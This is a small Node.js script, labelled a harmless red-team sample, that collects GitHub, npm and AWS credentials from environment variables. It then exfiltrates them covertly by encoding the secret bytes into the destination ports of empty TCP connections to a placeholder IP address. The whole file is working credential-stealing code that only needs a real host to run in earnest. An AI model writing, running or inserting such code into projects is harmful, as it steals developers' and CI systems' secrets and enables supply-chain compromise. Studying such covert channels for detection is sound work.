'use strict';
// Harmless red-team sample: leaks env tokens as the *destination port* of empty TCP connections.
const net = require('net');
const HOST = '203.0.113.10';
function secrets() {
  const e = process.env, out = [];
  for (const k of ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']) if (e[k]) out.push(k[0] + '=' + e[k]);
  return out.join('\n');
}
function ports(s) {
  const b = Buffer.from(s, 'latin1'), p = [];
  for (let i = 0; i < b.length; i += 2) {
    const hi = b[i] & 0x7f, lo = i + 1 < b.length ? (b[i + 1] & 0x7f) : 0;
    p.push(2048 + ((hi << 7) | lo) % 63000); // 14 bits per connection
  }
  return p;
}
function knock(list, i) {
  if (i >= list.length) return;
  const s = net.connect({ host: HOST, port: list[i] });
  const next = () => { s.destroy(); setTimeout(() => knock(list, i + 1), 5); };
  s.once('connect', next); s.once('error', next); s.setTimeout(300, next);
}
knock(ports(secrets()), 0);
